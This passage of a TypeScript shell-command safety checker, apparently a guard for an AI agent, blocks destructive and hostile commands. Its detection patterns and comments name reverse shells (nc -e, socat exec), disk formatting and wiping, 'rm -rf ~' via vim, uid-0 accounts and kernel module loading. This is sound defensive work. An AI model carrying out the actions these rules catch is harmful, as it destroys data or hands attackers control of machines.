      if (args.includes('0')) warn(walk, 'suspicious', 'setenforce 0 turns SELinux off');
      break;
    case 'docker':
    case 'podman':
      // Every volume at once (system prune --volumes, volume rm $(docker volume ls -q), volume prune -a): the databases' data goes.
      if ((args.includes('system') && args.includes('prune') && args.includes('--volumes')) || (args.includes('volume') && (args.includes('rm') || args.includes('remove')) && inv.words.some((w) => w.subs.some((sub) => /volume\s+ls\s+(-q|--quiet)\s*$/.test(sub)))) || (args.includes('volume') && args.includes('prune') && args.some((a) => /^-[a-zA-Z]*a|^--all$/.test(a)))) {
        block(walk, 'dangerous', `${name} ${args.slice(0, 3).join(' ')} deletes every volume, with the data of the databases kept in them`, 'remove the one volume meant, by name');
      } else if (args.includes('volume') && /^(rm|remove)$/.test(args[args.indexOf('volume') + 1] ?? '') && args.slice(args.indexOf('volume') + 2).some((v) => !v.startsWith('-') && serverVolume(v))) {
        block(walk, 'dangerous', `${name} ${args.join(' ')} deletes the volume of a version-control or artifact server: the team's history, which no backup of the project covers`, 'let the user remove it after a checkpoint or backup of the server');
      } else if ((args.includes('system') && args.includes('prune')) || (args.includes('volume') && (args.includes('prune') || args.includes('rm')))) {
        warn(walk, 'suspicious', `${name} ${args.slice(0, 2).join(' ')} deletes containers, images or volumes for good`);
      }
      break;
    case 'eval':
      if (inv.words.slice(1).some((w) => w.dynamic)) warn(walk, 'suspicious', 'eval of text that is only known at run time');
      break;
    case 'nc':
    case 'ncat':
    case 'netcat':
    case 'telnet':
      if (args.some((a) => a === '-e' || a === '-c' || a === '--exec' || a === '--sh-exec' || a === '--lua-exec')) block(walk, 'dangerous', `${name} -e hands a shell to a network connection`);
      else if (inv.upstream.some((u) => SHELLS.has(u.argv[0]) && readsScriptFromStdin(u.argv))) block(walk, 'dangerous', `a shell piped into ${name}: a reverse shell`);
      break;
    case 'socat':
      if (args.some((a) => /^(exec|system):/i.test(a)) && args.some((a) => /^(tcp|udp|openssl|ssl)[46]?(-connect|-listen)?:/i.test(a))) block(walk, 'dangerous', 'socat joins a shell to a network connection: a reverse shell');
      break;
    default:
      // Modes that only read or pretend: wipefs --no-act, mke2fs -n, sfdisk -d/-l/-V, sgdisk --backup/-p/-v, cryptsetup luksDump/status, badblocks without -w.
      if (readOnlyDiskMode(name, args)) break;
      if (/^mkfs(\.|$)/.test(name) || ['mke2fs', 'mkswap', 'wipefs', 'mkdosfs', 'mkntfs', 'mkexfatfs', 'mkfs.btrfs', 'cryptsetup', 'blkdiscard', 'sfdisk'].includes(name)) {
        // Formatting an image file (mkfs.ext4 disk.img) is ordinary work; a device, or a target only known at run time, is not.
        const ops = operands(inv.words, new Set(['-t', '-L', '-b', '-E', '-g', '-G', '-i', '-I', '-J', '-m', '-M', '-N', '-o', '-O', '-r', '-T', '-U', '-d', '--label', '--type']));
        // Any word naming a device counts, also one an option seemed to take (mkfs.vfat -I /dev/mmcblk0: -I takes none there).
        const devs = [...ops, ...inv.words.slice(1).filter((w) => !ops.includes(w) && /^\/dev\//.test(w.text))]
          .map((w) => ({ w, t: target(inv, w) }))
          .filter(({ w, t }) => (w.dynamic && ops.includes(w) && !/^[/.~]/.test(w.text.replace(/^\$\{?(TMPDIR|HOME|PWD)\}?/, '/'))) || (t.abs !== null && t.abs.startsWith('/dev/') && !['/dev/null', '/dev/zero'].includes(t.abs)))
          // ${LOOP}p1 where LOOP=$(losetup -fP --show sdcard.img): a partition of the image the line itself attached.
          .filter(({ w }) => !(w.subs.length > 0 && w.subs.every(loopDeviceOfImage)));
        if (devs.length > 0) block(walk, 'dangerous', `${name} formats a filesystem on ${devs.map((d) => d.w.text).join(' ')}, erasing what was on it`, 'format an image file instead (truncate -s 1G disk.img && mkfs.ext4 disk.img), or let the user do it');
        else if (!args.some((a) => /\.(img|iso|raw|bin|qcow2|vhd|swap)$|swapfile/.test(a)) && name !== 'mkswap' && !args.some((a) => /\//.test(a) || /\./.test(a))) warn(walk, 'suspicious', `${name} with no device named`);
      } else if (['fdisk', 'sfdisk', 'cfdisk', 'parted', 'sgdisk', 'gdisk'].includes(name)) {
        const listing = args.some((a) => a === '-l' || a === '--list' || a === 'print' || a === '-p');
        if (!listing && args.some((a) => a.startsWith('/dev/'))) block(walk, 'dangerous', `${name} rewrites the partition table of ${args.find((a) => a.startsWith('/dev/'))}`);
      }
  }
  if (!HANDLES_PATHS.has(name)) {
    for (const w of operands(inv.words)) checkRead(walk, inv, target(inv, w), name);
  }
  checkEssentialPackages(walk, inv);
  checkRclone(walk, inv);
  checkKeyOverwrite(walk, inv);
  checkMachine(walk, inv);
  checkToolCommands(walk, inv);
  checkXargsRuns(walk, inv);
  checkOtherWriters(walk, inv);
  if (name === 'bfg' || (name === 'java' && inv.argv.some((a) => /(^|\/)bfg[^/]*\.jar$/i.test(a)))) {
    block(walk, 'dangerous', 'BFG rewrites every commit of the repository (like git filter-repo): every commit id changes', 'ask the user first; for one file committed by mistake use git rm --cached FILE and a new commit');
  }
  checkDisks(walk, inv);
  const chip = chipIrreversible(inv.argv, stdinText(inv)) ?? buildOverHost(inv.argv);
  if (chip) block(walk, 'dangerous', chip, 'let the user do this themselves');
  checkCloudDestroy(walk, inv);
  checkKillAll(walk, inv);
  if (/^(git|hub|dvc|pbcopy|wl-copy|xclip|xsel|clip)$/.test(name)) checkSecretCarried(walk, inv);
  checkSecretToDevice(walk, inv);
  // esptool read_flash 0x9000 0x6000 nvs.bin: a board's flash read back holds its Wi-Fi passwords and keys.
  for (const f of [...deviceDumpOutputs(inv.argv), ...accountExports(inv.argv)]) walk.secretFiles.add(resolveFrom(inv.cwd ?? walk.env.cwd, f));
  const lostBackups = isBackupTool(name) ? backupLoss(inv.argv) : isPackageTool(name) ? everyPackageRemoved(inv.argv, inv.words.flatMap((w) => w.subs), inv.upstream.map((u) => u.argv)) : null;
  if (lostBackups) block(walk, 'dangerous', lostBackups, 'forget or delete named snapshots, after a --dry-run');
  if (isMacTool(name)) for (const r of macFindings(inv.argv, inv.words.flatMap((w) => w.subs), inv.upstream.map((u) => u.argv))) block(walk, 'dangerous', r, 'let the user do this themselves');
  if (isClusterTool(name)) for (const r of clusterToolFindings(inv.argv, env, (abs) => isSecret(walk, abs))) block(walk, 'dangerous', r, 'let the user do it');
  if (isHostingTool(name)) for (const r of platformFindings({ argv: inv.argv, assigned: inv.assigned ?? [], subs: inv.words.flatMap((w) => w.subs), stdin: stdinText(inv), fedBy: inv.viaXargs ? inv.upstream.map((u) => u.argv) : [] })) block(walk, 'dangerous', r, 'let the user do it, after a backup or on a preview');
  if (isDataTool(name) || (name === 'git' && args.includes('lfs')) || (inv.viaXargs && /^(rm|shred|srm|unlink|truncate)$/.test(name))) for (const r of dataToolFindings({ argv: inv.argv, elevated: inv.elevated, subs: inv.words.flatMap((w) => w.subs), upstream: inv.upstream.map((u) => u.argv), viaXargs: inv.viaXargs }, env, walk.out.map((i) => i.argv))) block(walk, 'dangerous', r, 'let the user do it');
  checkTraversal(walk, inv);
}

/**
 * Writers beyond cp/tee/redirections: sponge FILE, patch FILE, editors run without a terminal (ed,
 * ex/vim -c/-s/-e, sed-like scripts on stdin) on a file; archives extracted into / or a system tree.
 */
function checkOtherWriters(walk: Walk, inv: Invocation): void {
  const [name, ...args] = inv.argv;
  if (langOf(name ?? '') === 'awk' && args.some((a, k) => (a === '-i' && args[k + 1] === 'inplace') || a === '-iinplace' || a === '--include=inplace')) {
    // gawk -i inplace PROGRAM FILE...: each FILE is rewritten.
    const ops = operands(inv.words, new Set(['-i', '-v', '-F', '-f', '--include', '--assign']));
    for (const w of ops.slice(args.some((a) => a === '-f') ? 0 : 1)) checkWrite(walk, inv, target(inv, w), `${name} -i inplace`);
  }
  if ((name === 'tar' || name === 'zip' || name === '7z') && args.some((a) => /^--remove-files$|^-[a-zA-Z]*m$|^-sdel$/.test(a) && (name !== 'zip' || a === '-m') && (name !== 'tar' || a === '--remove-files') && (name !== '7z' || a === '-sdel'))) {
    // tar --remove-files / zip -m: the inputs are deleted once packed.
    const ops = operands(inv.words, new Set(['-f', '--file', '-C', '--directory', '-T', '-X']));
    for (const w of ops.filter((w) => !/\.(t?gz|tar|zip|tgz|bz2|xz|7z|zst)$/.test(w.text))) checkDelete(walk, inv, target(inv, w), true, `${name} ${name === 'tar' ? '--remove-files' : '-m'}`);
  }
  if (name === 'sort' || name === 'uniq' || name === 'shuf') {
    // sort -o FILE / --output=FILE, uniq IN OUT: FILE is written.
    const o = inv.words.findIndex((w, k) => k > 0 && (/^-[a-zA-Z]*o$/.test(w.text) || w.text === '--output'));
    const eq = inv.words.find((w) => w.text.startsWith('--output='));
    if (o > 0 && inv.words[o + 1]) checkWrite(walk, inv, target(inv, inv.words[o + 1]), `${name} -o`);
    if (eq) checkWrite(walk, inv, target(inv, { ...eq, text: eq.text.slice(9) }), `${name} -o`);
    const ops = operands(inv.words, new Set(['-o', '--output', '-k', '-t', '-S', '-f', '-s', '-w', '-n']));
    if (name === 'uniq' && ops.length === 2) checkWrite(walk, inv, target(inv, ops[1]), 'uniq');
  }
  if (name === 'sponge' || name === 'patch') {
    for (const w of operands(inv.words, new Set(['-p', '-i', '-o', '-d', '-B', '-r']))) checkWrite(walk, inv, target(inv, w), name);
    if (name === 'patch') {
      const o = args.indexOf('-o');
      if (o >= 0 && inv.words[o + 2]) checkWrite(walk, inv, target(inv, inv.words[o + 2]), name);
    }
  } else if (/^(ed|red|ex|vi|vim|nvim|view)$/.test(name ?? '') && (name === 'ed' || name === 'ex' || args.some((a) => /^(-[a-zA-Z]*[sec]|-E|--cmd|\+.+)$/.test(a)) || stdinText(inv) !== null)) {
    for (const w of operands(inv.words, new Set(['-c', '--cmd', '-S', '-u', '-i', '-T', '-w', '-W']))) if (!w.text.startsWith('+')) checkWrite(walk, inv, target(inv, w), `${name} (scripted)`);
  } else if ((name === 'tar' && args.some((a) => /^-?[a-zA-Z]*x/.test(a) || a === '--extract')) || name === 'unzip' || name === 'bsdtar' || name === '7z' && args[0] === 'x') {
    // Extracted into / or a system tree: whatever the archive holds lands over the system's files.
    const k = inv.argv.findIndex((a) => a === '-C' || a === '--directory' || a === '-d' || a.startsWith('--directory='));
    const dir = k > 0 ? (inv.argv[k].includes('=') ? inv.argv[k].split('=')[1] : inv.argv[k + 1]) : null;
    const abs = dir && inv.cwd !== null ? resolveFrom(inv.cwd, dir.replace(/^~(?=\/|$)/, walk.env.home)) : inv.cwd;

    if (abs === '/' || (abs !== null && isSystemPath(abs, walk.env.home))) block(walk, 'system', `${name} extracts an archive into ${abs}: its files land over the system's`, 'extract into a new directory, look, then install what is needed');
    else if (abs !== null && (isAutostartPath(abs, walk.env) || isSecret(walk, abs))) block(walk, 'dangerous', `${name} extracts an archive into ${abs}: its files land over keys or things that start by themselves`);
  }
}

/**
 * `echo main | xargs -I{} git push origin --force {}`: a command other than the deletes (which read their
 * items themselves) run by xargs with items known on the line is checked as it runs, items put in.
 */
function checkXargsRuns(walk: Walk, inv: Invocation): void {
  if (!inv.viaXargs || inv.nested && inv.argv[0] === undefined || /^(rm|srm|rmdir|unlink|shred|truncate)$/.test(inv.argv[0] ?? '')) return;
  const fed = xargsItems(walk, inv);
  if (!fed || fed.items.length === 0 || fed.items.length > 16 || fed.items.some((t) => t.word.dynamic)) return;
  // find /x -type f | xargs chmod 666: the mode of every file an unfiltered listing prints, as chmod -R would set it.
  const own = fed.recursive && /^(chmod|chown|chgrp|setfacl)$/.test(inv.argv[0] ?? '') ? [inv.words[0], { ...inv.words[0], text: '-R', glob: false }, ...inv.words.slice(1)] : inv.words;
  for (const item of fed.items) {
    const repl = inv.xargsReplace;
    const words = repl && own.some((w) => w.text.includes(repl)) ? own.map((w) => (w.text.includes(repl) ? { ...w, text: w.text.split(repl).join(item.word.text) } : w)) : [...own, item.word];
    const child: Invocation = { ...inv, argv: text(words), words, viaXargs: false, xargsReplace: undefined, upstream: [], nested: true };
    checkInvocation(walk, child);
  }
}

/**
 * Options of everyday tools whose value is a command they run: tar --checkpoint-action=exec=CMD,
 * --to-command, -I/--use-compress-program; zip -TT CMD; rsync -e/--rsh; ssh -o ProxyCommand/LocalCommand;
 * make --eval 'x: ; CMD'; sed's `e` command and s///e; ansible -m file … state=absent.
 */
function checkToolCommands(walk: Walk, inv: Invocation): void {
  const [name, ...args] = inv.argv;
  const cmds: string[] = [];
  const val = (k: number, pre: string) => (args[k].length > pre.length ? args[k].slice(pre.length) : args[k + 1] ?? '');
  // vim -c ':silent !rm -rf ~' (+cmd, --cmd, ex, view): an Ex command beginning with ! (or :r !, :w !, system()) runs a shell command.
  if (/^(vim?|nvim|gvim|ex|view|vimdiff|rvim)$/.test(name)) {
    const exCmds = args.filter((a, k) => /^(-c|--cmd)$/.test(args[k - 1] ?? '') || /^\+./.test(a)).map((a) => a.replace(/^\+/, ''));
    for (const c of exCmds) {
      const m = /^\s*:?\s*(?:silent!?\s*|exe(?:cute)?\s+['"])?(?:!|r(?:ead)?\s*!|w(?:rite)?\s*!|call\s+system\(\s*['"])\s*([^'"]*)/.exec(c);
      if (m && m[1].trim() !== '') cmds.push(m[1]);
    }
  }
  args.forEach((a, k) => {
    if (name === 'tar') {
      const m = /^--(checkpoint-action=exec=|to-command=|use-compress-program=|info-script=|new-volume-script=)(.*)$/.exec(a);
      if (m) cmds.push(m[2]);
      else if (/^(-I|-F|--use-compress-program|--to-command|--info-script)$/.test(a)) cmds.push(args[k + 1] ?? '');
    } else if (name === 'zip' && /^(-TT|--unzip-command)/.test(a)) cmds.push(val(k, a.startsWith('--') ? '--unzip-command=' : '-TT'));
    else if (name === 'rsync' && (a === '-e' || a === '--rsh' || a.startsWith('--rsh=') || a === '--rsync-path' || a.startsWith('--rsync-path='))) cmds.push(a.includes('=') ? a.slice(a.indexOf('=') + 1) : args[k + 1] ?? '');
    else if ((name === 'ssh' || name === 'scp' || name === 'sftp') && (a === '-o' || /^-o./.test(a))) {
      const o = a === '-o' ? args[k + 1] ?? '' : a.slice(2);
      const m = /^(ProxyCommand|LocalCommand|KnownHostsCommand|RemoteCommand)[\s=]+(.*)$/i.exec(o);
      if (m) cmds.push(m[2]);
    } else if (name === 'make' && (a.startsWith('--eval=') || a === '--eval')) {
      const text = a === '--eval' ? args[k + 1] ?? '' : a.slice(7);
      for (const m of text.matchAll(/:[^;\n]*;\s*([^\n]+)|\n\t([^\n]+)/g)) cmds.push(m[1] ?? m[2]);
    }
  });
  if (name === 'sed') {
    // sed's `e CMD` runs CMD; s/…/REPL/e runs REPL.
    const scripts = inv.argv.filter((_, k) => /^(-e|--expression)$/.test(inv.argv[k - 1] ?? '')).concat(operands(inv.words, new Set(['-e', '-f', '--expression', '--file'])).slice(0, 1).map((w) => w.text));
    for (const sc of scripts) {
      for (const m of sc.matchAll(/(?:^|[;\n{])\s*(?:\d+|\$|\/[^/]*\/)?\s*e\s+([^;\n}]+)/g)) cmds.push(m[1]);
      for (const m of sc.matchAll(/(?:^|[;\n{])\s*(?:\d+|\$|\/[^/]*\/)?(?:,(?:\d+|\$|\/[^/]*\/))?!?\s*s(.)(?:\\.|(?!\1).)*\1((?:\\.|(?!\1).)*)\1[gpiImM0-9]*e/g)) cmds.push(m[2].replace(/\\(.)/g, '$1'));
    }
  }
  if (name === 'ansible' && args.some((a, k) => (a === '-m' || a === '--module-name') && /^(ansible\.builtin\.)?file$/.test(args[k + 1] ?? ''))) {
    const a = args[args.findIndex((x) => x === '-a' || x === '--args') + 1] ?? '';
    const p = /\b(?:path|dest|name)=("?)([^"\s]+)\1/.exec(a)?.[2];
    if (p && /state=absent/.test(a)) checkDelete(walk, inv, target(inv, { ...inv.words[0], text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false }), true, 'ansible file state=absent');
  }
  // ansible -m lineinfile -a "path=~/.bashrc line=…" (blockinfile, copy, template, replace): a file written, as a redirection would,
  // when the hosts are this machine (localhost, -c local); on the inventory's hosts, writing their configuration is what Ansible is for.
  // (--check changes nothing.)
  const ansibleHere = name === 'ansible' && (/^(localhost|127\.0\.0\.1)$/.test(args.find((a) => !a.startsWith('-')) ?? '') || args.some((a, k) => (a === 'local' && /^(-c|--connection)$/.test(args[k - 1] ?? '')) || a === '--connection=local')) && !args.some((a) => a === '--check' || a === '-C');
  if (ansibleHere && args.some((a, k) => /^(-m|--module-name)$/.test(args[k - 1] ?? '') && /^(ansible\.builtin\.)?(lineinfile|blockinfile|copy|template|replace)$/.test(a))) {
    const p = /\b(?:path|dest)=("?)([^"\s]+)\1/.exec(args.find((_, k) => /^(-a|--args)$/.test(args[k - 1] ?? '')) ?? '')?.[2];
    if (p) checkWrite(walk, inv, target(inv, { ...inv.words[0], text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false }), 'ansible');
  }
  for (const c of cmds) if (c.trim() !== '') collect(walk, c, inv.cwd, 1, true);
}

/** Cutting the machine off, handing out root, changing how it boots or what runs in its kernel. */
function checkMachine(walk: Walk, inv: Invocation): void {
  const [name, ...args] = inv.argv;
  const a = args.join(' ');
  const say = (what: string) => block(walk, 'dangerous', `${name} ${args.slice(0, 5).join(' ')} ${what}`, 'let the user do this themselves');
  if ((name === 'ip' && (/\blink\s+set\s+\S+.*\bdown\b/.test(a) || /\b(route|r|addr|address|a|neigh)\s+flush\s+(all|table\s+(main|all)|dev|scope\s+global)\b/.test(a) || /\broute\s+(del|delete)\s+default\b/.test(a))) || (name === 'ifconfig' && /\sdown\b/.test(` ${a}`)) || name === 'ifdown' || (name === 'nmcli' && /\b(networking|radio\s+all|radio\s+wifi)\s+off\b|\bdevice\s+disconnect\b/.test(a))) say('takes the network down: the machine (and this session) loses its connection');
  else if (name === 'systemctl' && /\b(stop|disable|mask|kill)\b/.test(a) && /\b(sshd?|sshd\.service|ssh\.service|ssh\.socket|networking|NetworkManager|systemd-networkd|network)\b/.test(a)) say('stops remote access or the network of the machine');
  else if (/^(iptables|ip6tables)$/.test(name) && /(^|\s)(-P|--policy)\s+(INPUT|OUTPUT)\s+(DROP|REJECT)\b/.test(a)) say('drops all traffic by default: the machine is cut off');
  else if (/^(useradd|adduser|usermod)$/.test(name) && (/(^|\s)(-u|--uid)\s*0(\s|$)/.test(a) || (args.includes('-o') && /(-u|--uid)\s*0\b/.test(a)))) say('gives an account uid 0: a second root');
  else if (accountLockout(inv.argv)) say(accountLockout(inv.argv)!);
  else if (name === 'setcap' && /cap_(setuid|setgid|sys_admin|dac_override|dac_read_search|sys_ptrace|sys_module|chown|fowner)/i.test(a)) say('gives a program root powers (capabilities): a way to become root');
  else if (name === 'efibootmgr' && /(^|\s)(-B|--delete-bootnum|-o|--bootorder)\b/.test(a)) say('changes how the machine boots');
  else if ((name === 'insmod' || (name === 'modprobe' && !args.some((x) => /^-(r|-remove|n|-dry-run|c|-show)/.test(x)))) && args.some((x) => /\.ko(\.[gx]z|\.zst)?$/.test(x) && (/^\/(tmp|var\/tmp|dev\/shm)\//.test(x) || walk.files.get(resolveFrom(inv.cwd ?? '/', x))?.downloaded))) say('loads a kernel module from outside the system: code with every power over the machine');
  else if (name === 'defaults' && args[0] === 'write' && /LoginHook|LogoutHook|LaunchAgents|AutoLaunchedApplicationDictionary/i.test(a)) say('installs something macOS runs at every login: a way to stay on the machine');
}

/** Packages without which the system no longer boots, logs in or installs anything. */
const ESSENTIAL_PACKAGES = /^(libc6|libc-bin|glibc|bash|coreutils|dpkg|apt|rpm|dnf|yum|systemd|systemd-sysv|init|sudo|login|passwd|util-linux|base-files|base-passwd|libpam\S*|openssh-server|grub\S*|linux-image\S*|linux-firmware|kernel|kernel-core|e2fsprogs|mount|ncurses-base|debianutils|diffutils|findutils|grep|gzip|hostname|sed|tar|perl-base|zlib1g|libssl\S*|ca-certificates|python3|python3-minimal)(:\w+)?$/;

const ESSENTIAL_NAMES = ESSENTIAL_PACKAGES.source.slice(2, ESSENTIAL_PACKAGES.source.indexOf(')(')).split('|').map((n) => n.replace('\\S*', ''));

/** dpkg --force-all/--force-remove-essential, or removing a package the system cannot run without (apt purge libc6). */
function checkEssentialPackages(walk: Walk, inv: Invocation): void {
  const [name, ...args] = inv.argv;
  const removing =
    (name === 'dpkg' && args.some((a) => /^(-[rP]|--remove|--purge)$/.test(a))) ||
    (/^(apt|apt-get|aptitude|yum|dnf|zypper|pacman|apk|rpm)$/.test(name ?? '') && args.some((a) => /^(remove|purge|erase|autoremove|del|-R[a-z]*|-e|--erase)$/.test(a)));
  if (!removing) return;
  const forced = args.some((a) => /^--force-(all|remove-essential|depends|remove-protected)$|^--nodeps$|^-Rdd$/.test(a));
  // apt purge 'python3*': a glob takes every essential package it matches.
  const pkg = args.find((a) => ESSENTIAL_PACKAGES.test(a) || (/[*?[]/.test(a) && ESSENTIAL_NAMES.some((n) => globMatches(a.replace(/^(\^|\.\*)|\$$/g, ''), n))));
  if (forced || pkg) block(walk, 'dangerous', `${name} ${args.slice(0, 4).join(' ')} removes ${pkg ? `the essential package ${pkg}` : 'packages past the safety checks'}: the system may no longer boot or install anything`, 'remove only the package you mean, without --force options');
}

/** rclone purge REMOTE:path, rclone delete REMOTE:path with no filter: the remote tree and its contents are gone. */
function checkRclone(walk: Walk, inv: Invocation): void {
  // s3cmd del -r s3://B, mc rm -r --force ALIAS/B, az storage blob delete-batch: the same for other storage clients.
  const [n0, n1] = inv.argv;
  const rec = inv.argv.some((a) => /^(-r|--recursive)$/.test(a));
  const filtered = inv.argv.some((a) => /^--(dry-?run|pattern|include|exclude|older-than|newer-than|if-unmodified-since)\b/.test(a));
  // A bucket named as throwaway (mc's `local/` server, test-bucket, scratch/$USER) is everyday clean-up: a warning.
  const throwaway = storeScope(inv.argv.slice(2).filter((a) => !a.startsWith('-'))) === 'throwaway';
  if (!filtered && ((n0 === 's3cmd' && /^(del|rm|rb)$/.test(n1 ?? '') && rec) || (n0 === 'mc' && /^(rm|rb)$/.test(n1 ?? '') && inv.argv.includes('--force') && (rec || n1 === 'rb')) || (n0 === 'az' && n1 === 'storage' && inv.argv.includes('delete-batch')))) {
    if (throwaway) return warn(walk, 'suspicious', `${inv.argv.slice(0, 3).join(' ')} deletes a test or scratch bucket's objects`);
    block(walk, 'dangerous', `${inv.argv.slice(0, 3).join(' ')} deletes a remote bucket or container and everything in it`, 'delete the objects you mean, after a dry run');
    return;
  }
  const v = inv.argv.findIndex((a) => /^(purge|delete)$/.test(a));
  const [name, verb, ...args] = [inv.argv[0], inv.argv[v], ...inv.argv.slice(v + 1)];
  if (name !== 'rclone' || v < 0 || !inv.argv.slice(1, v).every((a, k, all) => a.startsWith('-') || all[k - 1]?.startsWith('--')) || args.some((a) => /^(-n|--dry-run|-i|--interactive|--(include|exclude|filter|min-age|max-age|min-size|max-size|files-from)\b.*)$/.test(a))) return;
  const remote = args.find((a) => /^(:?[\w.-]{2,}|:[\w-]+):/.test(a));
  if (remote) block(walk, 'dangerous', `rclone ${verb} ${remote} deletes the remote path and everything in it`, 'run it with --dry-run first and let the user delete remote data');
}

/** ssh-keygen -f ~/.ssh/id_ed25519 <<< y: the overwrite question answered yes, the user's private key replaced. */
function checkKeyOverwrite(walk: Walk, inv: Invocation): void {
  const f = inv.argv.indexOf('-f');
  if (inv.argv[0] !== 'ssh-keygen' || f < 0 || !inv.words[f + 1] || inv.argv.some((a) => /^-[ylpceiRFLYsDK]$/.test(a))) return;
  const yes = /^\s*y(es)?\b/i.test(stdinText(inv) ?? '') || inv.upstream.some((u) => u.argv[0] === 'yes');
  const t = target(inv, inv.words[f + 1]);
  if (yes && t.abs !== null && !t.abs.endsWith('.pub') && isSecret(walk, t.abs)) block(walk, 'dangerous', `ssh-keygen answers yes to overwriting ${t.abs}: the private key is replaced and every server that trusts it is locked out`, 'write the new key to a new file: ssh-keygen -f ~/.ssh/id_ed25519_new');
}

/** User services that distributions ship (enabling one is everyday setup, not a planted unit). */
const PACKAGED_USER_UNITS = /^(syncthing|pipewire|pipewire-pulse|wireplumber|pulseaudio|gpg-agent|gpg-agent-ssh|ssh-agent|gcr-ssh-agent|podman|podman-restart|docker|emacs|mpd|mpris-proxy|redshift|dunst|gnome-keyring-daemon|xdg-desktop-portal|onedrive|dropbox|keybase|kbfs|spotifyd|ollama|rclone@.*|vdirsyncer|offlineimap|mbsync|goimapnotify|foot-server|waybar|kanshi|mako|swayidle|geoclue-agent|obex|tracker-miner-fs-3|gvfs-daemon|at-spi-dbus-bus|pueued)$/;

/** Tools that only read or list a disk device, or are judged by the checks above (mkfs, dd, partitioning). */
const DEVICE_SAFE = /^(lsblk|blkid|file|stat|smartctl|mount|umount|eject|udisksctl|pmount|pumount|gio|udevadm|partprobe|df|du|cat|head|tail|hexdump|xxd|od|less|more|strings|dd|e2fsck|fsck(\..*)?|tune2fs|dumpe2fs|xfs_info|blockdev|ls|readlink|realpath|cryptsetup|mkfs(\..*)?|mke2fs|mkswap|wipefs|mkdosfs|mkntfs|mkexfatfs|blkdiscard|sfdisk|fdisk|cfdisk|parted|sgdisk|gdisk|losetup|swapon|swapoff|growpart|resize2fs|iostat|pv|ddrescue|shred|truncate|cp|tee|echo|printf|sudo|findmnt|lsof|fuser|sync|fstrim|hdparm|nvme|wc|sha256sum|md5sum|cmp)$/;

/**
 * Any other tool pointed at a disk device (nvme format, badblocks -w, mdadm --zero-superblock,
 * hdparm --security-erase, zpool/LVM removal): what it does there cannot be undone.
 */
function checkDisks(walk: Walk, inv: Invocation): void {
  const [name, ...args] = inv.argv;
  const a = args.join(' ');
  let what: string | null = null;
  if (/^(lvremove|vgremove|pvremove|lvreduce)$/.test(name)) what = 'removes logical volumes with their data';
  else if ((name === 'zpool' && /^(destroy|labelclear)$/.test(args[0] ?? '')) || (name === 'zfs' && args[0] === 'destroy')) what = 'destroys a pool or dataset with its data';
  else if (name === 'mdadm' && /--zero-superblock|--fail|--remove/.test(a)) what = 'erases RAID metadata';
  else if (name === 'nvme' && /^(format|sanitize|delete-ns|detach-ns)$/.test(args[0] ?? '')) what = 'erases the drive';
  else if (name === 'hdparm' && /--security-erase|--trim-sector|--write-sector|--make-bad-sector|--dco-restore/.test(a)) what = 'erases or damages the drive';
  else if (name === 'diskutil' && /^(zeroDisk|randomDisk|secureErase|eraseDisk|eraseVolume|reformat|partitionDisk|apfs)$/i.test(args[0] ?? '') && !(args[0] === 'apfs' && !/deleteContainer|deleteVolume|eraseVolume/i.test(a))) what = 'erases a disk or volume';
  else if (name === 'ddrescue' && (() => {
    const o = operands(inv.words, new Set(['-b', '-c', '-i', '-o', '-s', '-K', '-m']))[1];
    return o !== undefined && target(inv, o).abs !== null && isDiskDevice(target(inv, o).abs!);
  })()) what = 'copies over the disk device';
  // tar -cf /dev/sda ., gzip -c … -o /dev/sdb: an archive or output written onto a disk.
  else if (inv.words.some((w, k) => k > 1 && ((/^-[a-zA-Z]*[cru][a-zA-Z]*f$|^--file$/.test(inv.words[k - 1].text) && /^(tar|bsdtar|star)$/.test(name)) || /^(-o|--output|--output-file|-O)$/.test(inv.words[k - 1].text)) && target(inv, w).abs !== null && isDiskDevice(target(inv, w).abs!) && name !== 'dd')) what = 'writes its output onto the disk device';
  else if (name === 'flashrom' && /(^|\s)(-w|--write|-E|--erase)(\s|=|$)/.test(a)) what = 'rewrites the firmware chip (BIOS/UEFI): a bad image leaves the machine unable to start';
  else if (name === 'btrfs' && /subvolume delete|device delete/.test(a) && /\s\/(\s|$)/.test(` ${a} `)) what = 'deletes the root subvolume';
  else if (!DEVICE_SAFE.test(name ?? '') && !NOT_WRAPPERS.has(name) && !langOf(name ?? '')) {
    const dev = inv.words.slice(1).find((w, k) => {
      // qemu … -append "root=/dev/vda console=ttyAMA0": the guest's disk, named in its kernel command line.
      if (KERNEL_CMDLINE_OPT.test(inv.words[k]?.text ?? '')) return false;
      const t = target(inv, { ...w, text: w.text.replace(/^[\w-]*=/, '') });
      return t.abs !== null && isDiskDevice(t.abs);
    });
    if (dev && !readOnlyDiskMode(name, args)) what = `works on the disk device ${dev.text}`;
  }
  // lsblk -dpno NAME | xargs wipefs -a, dd of=$(lsblk … disk …): the devices a disk lister prints, written.
  const listed = (c: string) => /^\s*(sudo\s+)?(lsblk|blkid|fdisk\s+-l|ls\s+\/dev\/(sd|nvme|vd|xvd|disk|mmcblk))/.test(c);
  const fedDevices = (inv.viaXargs && inv.upstream.some((u) => listed(u.argv.join(' ')))) || inv.words.some((w) => w.subs.some(listed));
  if (!what && fedDevices && /^(dd|wipefs|mkfs(\..+)?|mke2fs|mkswap|shred|blkdiscard|sgdisk|sfdisk|parted|cryptsetup)$/.test(name) && !readOnlyDiskMode(name, args) && (name !== 'dd' || inv.words.some((w) => /^of=/.test(w.text) && (w.subs.length > 0 || (!!inv.xargsReplace && w.text.includes(inv.xargsReplace)))))) {
    what = 'writes over the disk devices a lister (lsblk, blkid) prints';
  }
  if (what) block(walk, 'dangerous', `${name} ${args.slice(0, 3).join(' ')} ${what}: nothing on it can be brought back`, 'check the device or volume with lsblk first; let the user run it');
}

/** A disk tool run in a mode that only reads the device or rehearses (no write happens). */
function readOnlyDiskMode(name: string, args: string[]): boolean {
  const a = ` ${args.join(' ')} `;
  if (name === 'wipefs') return /\s(-[a-zA-Z]*n[a-zA-Z]*|--no-act)\s/.test(a) || !/\s(-[a-zA-Z]*[aot][a-zA-Z]*|--all|--offset|--types)(\s|=)/.test(a);
  // Checks that only look: xfs_repair -n, e2fsck -n, fsck -n (no modify).
  if (/^(xfs_repair|e2fsck|fsck(\.\w+)?|dosfsck)$/.test(name)) return /\s-[a-zA-Z]*n[a-zA-Z]*\s/.test(a);
  if (/^(mkfs\.ext[234]|mke2fs)$/.test(name)) return /\s-n\s/.test(a);
